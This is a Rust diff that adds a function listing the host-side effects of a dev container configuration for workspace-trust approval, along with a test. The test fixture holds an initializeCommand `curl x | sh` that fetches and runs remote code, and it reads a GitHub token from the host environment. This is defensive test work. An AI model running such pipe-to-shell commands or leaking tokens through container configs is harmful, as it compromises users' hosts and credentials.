@@ -40,6 +40,43 @@ pub fn find(root: &Path) -> Option<PathBuf> {
     FILES.iter().map(|f| root.join(f)).find(|p| p.is_file())
 }
 
+/// What the dev container at `path` makes the host do, for workspace
+/// trust (`trust`): its `initializeCommand`, each `${localEnv:...}` it
+/// reads, and a build context outside the repository at `root`.
+pub fn host_effects(root: &Path, path: &Path) -> Result<Vec<String>> {
+    let text = std::fs::read_to_string(path)
+        .map_err(|e| Error::input(format!("cannot read {}: {e}", path.display())))?;
+    let dc = DevContainer::parse(&text, path)?;
+    let mut effects = Vec::new();
+    if let Some(command) = &dc.initialize_command {
+        effects.push(format!(
+            "initializeCommand runs on the host: {}",
+            command.to_shell()
+        ));
+    }
+    // `${env:...}` is the older spelling.
+    for opening in ["${localEnv:", "${env:"] {
+        for (at, _) in text.match_indices(opening) {
+            if let Some(end) = text[at..].find('}') {
+                effects.push(format!(
+                    "reads your environment: {}",
+                    &text[at..at + end + 1]
+                ));
+            }
+        }
+    }
+    if dc.dockerfile().is_some() {
+        let context = path.parent().unwrap_or(root).join(dc.context());
+        if !crate::trust::inside(root, &context) {
+            effects.push(format!(
+                "build.context outside the repository: {}",
+                dc.context()
+            ));
+        }
+    }
+    Ok(effects)
+}
+
 /// The engine of a built-in docker or podman provider.
 fn engine_of(provider: &SandboxProvider) -> Option<Engine> {
     if provider.plugin().approval != Approval::BuiltIn {
@@ -256,6 +293,38 @@ mod tests {
             .iter()
             .map(|(k, v)| (k.to_string(), v.to_string()))
             .collect()
+    }
+
+    #[test]
+    fn what_makes_the_host_act_is_listed_for_approval() {
+        let repo = tempfile::tempdir().unwrap();
+        let root = repo.path();
+        std::fs::create_dir(root.join(".devcontainer")).unwrap();
+        let file = root.join(".devcontainer/devcontainer.json");
+        std::fs::write(
+            &file,
+            r#"{ "build": { "dockerfile": "Dockerfile", "context": "../.." },
+                 "containerEnv": { "T": "${localEnv:GITHUB_TOKEN}" },
+                 "initializeCommand": ["sh", "-c", "curl x | sh"] }"#,
+        )
+        .unwrap();
+        assert_eq!(
+            host_effects(root, &file).unwrap(),
+            vec![
+                "initializeCommand runs on the host: 'sh' '-c' 'curl x | sh'".to_string(),
+                "reads your environment: ${localEnv:GITHUB_TOKEN}".into(),
+                "build.context outside the repository: ../..".into(),
+            ]
+        );
+        // An image, lifecycle commands in the sandbox and a context inside
+        // the repository: nothing for the host.
+        std::fs::write(
+            &file,
+            r#"{ "build": { "dockerfile": "Dockerfile", "context": ".." },
+                 "postCreateCommand": "npm ci" }"#,
+        )
+        .unwrap();
+        assert_eq!(host_effects(root, &file).unwrap(), Vec::<String>::new());
     }
 
     #[test]
